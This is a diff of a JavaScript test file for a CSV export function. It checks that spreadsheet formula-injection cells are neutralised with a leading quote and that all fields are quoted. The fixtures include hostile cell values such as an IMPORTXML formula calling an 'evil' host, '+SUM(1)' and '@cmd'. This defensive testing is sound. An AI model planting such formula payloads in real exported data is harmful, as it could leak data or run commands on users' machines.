@@ -19,12 +19,14 @@ test('csv: header with column titles, hostile cells neutralised and quoted', asy
   const rows = [
     row(1, { key: '=IMPORTXML("http://evil","//a")', principal: '+SUM(1)', userAgent: '@cmd' }),
     row(2, { key: '-1', principal: '\tTAB', userAgent: 'multi\nline, "quoted"' }),
+    row(3, { key: 'a;=1+2', principal: 'p', userAgent: 'x;@SUM(A1)' }),
   ];
-  assert.equal(await writeRows(file, 'csv', ['key', 'principal', 'userAgent'], rows), 2);
+  assert.equal(await writeRows(file, 'csv', ['key', 'principal', 'userAgent'], rows), 3);
   assert.equal(fs.readFileSync(file, 'utf8'), [
-    'Key,Principal,User agent',
-    `"'=IMPORTXML(""http://evil"",""//a"")",'+SUM(1),'@cmd`,
-    `'-1,'\tTAB,"multi\nline, ""quoted"""`,
+    '"Key","Principal","User agent"',
+    `"'=IMPORTXML(""http://evil"",""//a"")","'+SUM(1)","'@cmd"`,
+    `"'-1","'\tTAB","multi\nline, ""quoted"""`,
+    '"a;=1+2","p","x;@SUM(A1)"',
     '',
   ].join('\r\n'));
 });
@@ -45,6 +47,6 @@ test('streams many rows from a generator (backpressure) and reports write errors
   assert.equal(await writeRows(file, 'csv', ['eventID', 'userAgent'], many()), 50_000);
   const lines = fs.readFileSync(file, 'utf8').split('\r\n');
   assert.equal(lines.length, 50_002);
-  assert.equal(lines[50_000], 'eventID-49999,userAgent-49999');
+  assert.equal(lines[50_000], '"eventID-49999","userAgent-49999"');
   await assert.rejects(writeRows(path.join(dir, 'missing', 'x.csv'), 'csv', ['eventID'], [row(1)]), /ENOENT/);
 });
